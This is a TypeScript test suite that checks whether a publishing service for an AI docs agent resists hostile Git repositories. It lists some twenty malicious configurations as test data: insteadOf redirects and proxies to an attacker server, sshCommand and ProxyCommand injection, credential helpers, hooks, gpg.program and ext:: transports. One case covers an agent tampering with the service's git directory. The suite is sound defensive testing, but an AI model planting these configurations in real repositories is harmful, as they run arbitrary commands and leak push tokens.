import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { mkdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { TurnFailure } from '../../../../src/local-service/turnFailure';
import { GitServer } from '../../../support/gitServer';
import { notOnWindows } from '../../../support/machine';
import { type PublicationFixture, createPublicationFixture } from '../../../support/publicationFixture';
import { report } from '../../../support/scale';
import { ScriptedServer } from '../../../support/scriptedServer';
import { git } from '../../../support/temporaryRepository';

/** The paths and origins that a trap uses. */
interface RemotePlaces {
  /** A program that leaves a mark when it runs. */
  trap: string;
  /** The user's work tree. */
  folder: string;
  /** A folder of the attacker. */
  outside: string;
  /** The address of the user's remote. */
  url: string;
  /** The origin of the Git host. */
  host: string;
  /** The origin of an attacker's server, which records each request. */
  evil: string;
}

/** A repository whose configuration tries to make a push do more than push. */
interface HostileRemote {
  name: string;
  /** Text that is appended to the repository's configuration. */
  config: (places: RemotePlaces) => string;
  /** A shell script that is run in the work tree in addition. */
  plant?: (places: RemotePlaces) => string;
  /** Triggers the trap with an ordinary push: leaves a mark or sends a request to the attacker. Default: `git push`. */
  careless?: string;
  /** The expected outcome; pushed to the host when absent. */
  outcome?: 'refused' | 'folder' | 'ssh';
}

/** Its kind follows from its host name, so no network request is needed. */
const ssh = (): string => '[remote "origin"]\n\turl = git@gitlab.example.org:robin/lighthouse.git';

const hostileRemotes: HostileRemote[] = [
  {
    name: 'url.insteadOf',
    config: ({ host, evil }) => `[url "${evil}/"]\n\tinsteadOf = ${host}/`,
  },
  {
    name: 'url.pushInsteadOf',
    config: ({ host, evil }) => `[url "${evil}/"]\n\tpushInsteadOf = ${host}/`,
  },
  {
    name: 'url.insteadOf to an ext:: address',
    config: ({ host, trap }) => `[protocol]\n\tallow = always\n[url "ext::${trap} "]\n\tinsteadOf = ${host}/`,
  },
  { name: 'core.sshCommand', config: ({ trap }) => `${ssh()}\n[core]\n\tsshCommand = ${trap}`, outcome: 'ssh' },
  {
    name: 'core.sshCommand in a file that is included by condition',
    config: ({ outside }) => `${ssh()}\n[includeIf "gitdir:/"]\n\tpath = ${outside}/more`,
    plant: ({ trap, outside }) => `printf '[core]\\n\\tsshCommand = ${trap}\\n' > '${outside}/more'`,
    outcome: 'ssh',
  },
  {
    name: 'core.sshCommand in the configuration of the worktree',
    config: () => `${ssh()}\n[extensions]\n\tworktreeConfig = true`,
    plant: ({ trap }) => `printf '[core]\\n\\tsshCommand = ${trap}\\n' > .git/config.worktree`,
    outcome: 'ssh',
  },
  {
    name: 'a host that is an option of ssh',
    config: ({ trap }) => `[remote "origin"]\n\turl = ssh://-oProxyCommand=${trap}/robin/lighthouse.git`,
    // Git itself has refused such a host since 2017.
    careless: '"$TRAP"',
    outcome: 'refused',
  },
  {
    name: 'remote.origin.receivepack',
    config: ({ trap }) => `[remote "origin"]\n\treceivepack = ${trap}\n\turl = ./inner.git`,
    plant: () => 'git clone --quiet --bare . inner.git',
    outcome: 'folder',
  },
  {
    name: 'a remote inside the repository with hooks and programs of its own',
    config: () => '[remote "origin"]\n\turl = ./inner.git',
    plant: ({ trap }) => `git clone --quiet --bare . inner.git; mkdir -p inner.git/hooks
for hook in pre-receive update post-receive post-update reference-transaction; do cp '${trap}' inner.git/hooks/$hook; done
git -C inner.git config core.alternateRefsCommand '${trap}'; git -C inner.git config core.fsmonitor '${trap}'`,
    outcome: 'folder',
  },
  { name: 'http.proxy', config: ({ evil }) => `[http]\n\tproxy = ${evil}` },
  { name: 'http.proxy for that very host', config: ({ evil, host }) => `[http "${host}"]\n\tproxy = ${evil}` },
  { name: 'remote.origin.proxy', config: ({ evil }) => `[remote "origin"]\n\tproxy = ${evil}` },
  { name: 'credential.helper', config: ({ trap }) => `[credential]\n\thelper = "!${trap}"` },
  {
    name: 'credential.helper for that very host',
    config: ({ trap, host }) => `[credential "${host}"]\n\thelper = ${trap}\n\tusername = robin`,
  },
  { name: 'core.askPass', config: ({ trap }) => `[core]\n\taskPass = ${trap}` },
  {
    name: 'a pre-push hook',
    config: () => '',
    plant: ({ trap }) => `mkdir -p .git/hooks; cp '${trap}' .git/hooks/pre-push`,
  },
  {
    name: 'core.hooksPath',
    config: ({ outside }) => `[core]\n\thooksPath = ${outside}/hooks`,
    plant: ({ trap, outside }) => `mkdir -p '${outside}/hooks'; cp '${trap}' '${outside}/hooks/pre-push'`,
  },
  {
    name: 'push.gpgSign',
    config: ({ trap }) => `[push]\n\tgpgSign = true\n[gpg]\n\tprogram = ${trap}\n[commit]\n\tgpgSign = true`,
    careless: 'git commit --allow-empty -m x',
  },
  {
    name: 'core.gitProxy',
    config: ({ trap }) => `[core]\n\tgitProxy = ${trap}\n[remote "origin"]\n\turl = git://127.0.0.1:1/x.git`,
    outcome: 'refused',
  },
  {
    name: 'an ext:: address',
    config: ({ trap }) => `[protocol "ext"]\n\tallow = always\n[remote "origin"]\n\turl = ext::${trap}`,
    outcome: 'refused',
  },
  {
    name: 'a remote helper of its own',
    config: ({ evil }) => `[remote "origin"]\n\tvcs = http\n\turl = ${evil}/robin/lighthouse.git\n\tpushurl = evil::x`,
    careless: 'git push $(git config remote.origin.url | tail -n 1) HEAD:refs/heads/careless',
    outcome: 'refused',
  },
  {
    name: 'a second pushurl',
    config: ({ url, evil }) => `[remote "origin"]\n\tpushurl = ${url}\n\tpushurl = ${evil}/robin/lighthouse.git`,
  },
  {
    name: 'http.cookieFile and headers',
    config: ({ evil }) => `[http]\n\textraHeader = X-Evil: 1\n\tfollowRedirects = true\n\tproxy = ${evil}`,
  },
];

/** An ordinary push. */
const CARELESS = 'git push origin HEAD:refs/heads/careless';

const TOKEN = 'given-token-1';
const BRANCH = 'refs/heads/docs-agent/job1';

describe('pushing from hostile repositories', function () {
  notOnWindows();
  let server: GitServer;
  let evil: ScriptedServer;
  let bench: PublicationFixture;
  let bare: string;
  let places: RemotePlaces;
  let tried = 0;
  const found = { commands: 0, requests: 0 };
  beforeEach(async () => {
    server = await GitServer.start();
    evil = await ScriptedServer.start({ status: 403 });
    bench = await createPublicationFixture();
    bare = await server.add('robin/lighthouse', bench.folder);
    const url = `${server.origin}/robin/lighthouse.git`;
    await git(bench.folder, 'remote', 'add', 'origin', url);
    server.password = `oauth2:${TOKEN}`;
    bench.tokens.set(server.host, { token: TOKEN });
    const outside = join(bench.root, 'outside');
    await mkdir(outside);
    const trap = await bench.program('trap', `echo "$0 $*" >> '${bench.root}/marks'\nexit 1`);
    places = { trap, folder: bench.folder, outside, url, host: server.origin, evil: evil.url };
    // The user's own ssh, simulated here by what the host would run.
    await bench.program(
      'ssh',
      `echo "$@" >> '${bench.root}/ssh'\nfor last; do :; done\ncd '${server.root}' && eval "$last"`,
    );
  });
  afterEach(async () => {
    await Promise.all([server.close(), evil.close()]);
  });
  after(() => {
    const figure = `${found.commands} commands run, ${found.requests} requests to the attacker’s server`;
    report({ promise: 'S11', what: `pushes from ${tried} hostile repositories, with a token`, figure });
  });

  const read = (name: string): Promise<string> => readFile(join(bench.root, name), 'utf8').catch(() => '');
  async function shell(script: string): Promise<void> {
    const env = {
      ...{ PATH: bench.environment['PATH'], HOME: bench.home, GIT_CONFIG_NOSYSTEM: '1', GIT_TERMINAL_PROMPT: '0' },
      ...{ TRAP: places.trap, GIT_AUTHOR_NAME: 'x', GIT_AUTHOR_EMAIL: 'x@example.org' },
      ...{ GIT_COMMITTER_NAME: 'x', GIT_COMMITTER_EMAIL: 'x@example.org' },
    };
    await promisify(execFile)('sh', ['-c', script], { cwd: bench.folder, env, timeout: 20_000 });
  }

  /** A `remote "origin"` section with an address replaces the existing one. */
  async function plant(hostile: HostileRemote): Promise<void> {
    const config = hostile.config(places);
    if (/\[remote "origin"\]\n(\t.*\n)*\turl = /.test(config)) {
      await git(bench.folder, 'remote', 'remove', 'origin');
    }
    const script = hostile.plant?.(places) ?? '';
    await shell(`set -e\ncat >> .git/config <<'END'\n${config}\nEND\n${script}`);
  }

  async function ranNothing(): Promise<void> {
    const marks = await read('marks');
    found.commands += marks.split('\n').length - 1;
    found.requests += evil.requests.length;
    assert.equal(marks, '', 'a command ran');
    assert.deepEqual(evil.requests, [], 'the attacker was asked');
  }

  for (const hostile of hostileRemotes) {
    it(`runs no command and contacts no attacker: ${hostile.name}`, async () => {
      tried += 1;
      await plant(hostile);
      const publication = await bench.next();
      const publishing = bench.publisher().publish(publication);
      const { outcome } = hostile;
      if (outcome === 'refused') {
        await assert.rejects(
          publishing,
          (error) => error instanceof TurnFailure && error.message.includes('isn’t HTTPS'),
        );
      } else {
        await publishing;
        const into = outcome === 'folder' ? join(bench.folder, 'inner.git') : bare;
        assert.equal((await git(into, 'rev-parse', BRANCH)).trim(), publication.commit);
      }
      assert.equal((await read('ssh')) !== '', outcome === 'ssh', 'the user’s own ssh');
      await ranNothing();
      // A rejected password makes git ask its credential helpers; an accepted push reaches the hooks.
      for (const password of [server.password, undefined]) {
        server.password = password;
        await shell(hostile.careless ?? CARELESS).catch(() => undefined);
      }
      const sprang = (await read('marks')) !== '' || evil.requests.length > 0 || evil.connections > 0;
      assert.ok(sprang, 'the trap springs for who does not look out');
    });
  }

  it('sends the token to no other host, even one that the repository configures for pushes', async () => {
    tried += 1;
    const pushes = '[remote]\n\tpushDefault = evil\n[branch "main"]\n\tpushRemote = evil';
    await plant({ name: '', config: () => `[remote "evil"]\n\turl = ${evil.url}/x.git\n${pushes}` });
    // The user's own git would push there. The host is contacted, but without a token.
    await assert.rejects(bench.publisher().publish(await bench.next()), TurnFailure);
    const shown = evil.requests.map(({ headers }) => headers.authorization);
    assert.ok(shown.length > 0 && shown.every((header) => header === undefined), shown.join());
    assert.equal(await read('marks'), '', 'a command ran');
  });

  it('sends no push option, branch, tag or header that the repository configures', async () => {
    await git(bench.folder, 'tag', 'v1');
    await plant({
      name: '',
      config: () =>
        `[push]\n\tpushOption = evil\n\tfollowTags = true\n\tdefault = matching\n[remote "origin"]\n\tpush = +refs/*:refs/*\n\tmirror = true`,
    });
    await git(bare, 'config', 'receive.advertisePushOptions', 'true');
    await bench.publisher().publish(await bench.next());
    const refs = await git(bare, 'for-each-ref', '--format=%(refname)');
    assert.equal(refs, `${BRANCH}\nrefs/heads/main\n`);
  });

  it('runs no command from the service’s own git directory after an agent has tampered with it', async () => {
    tried += 1;
    const publication = await bench.next();
    const config = `[core]\n\tsshCommand = ${places.trap}\n\thooksPath = hooks\n\tfsmonitor = ${places.trap}
[credential]\n\thelper = ${places.trap}\n[url "${evil.url}/"]\n\tinsteadOf = ${server.origin}/\n[http]\n\tproxy = ${evil.url}`;
    await shell(`cd '${bench.hostGit}'; cat >> config <<'END'\n${config}\nEND
mkdir -p hooks; cp '${places.trap}' hooks/pre-push; cp '${places.trap}' hooks/reference-transaction`);
    await bench.publisher().publish(publication);
    assert.equal((await git(bare, 'rev-parse', BRANCH)).trim(), publication.commit);
    await ranNothing();
  });
});
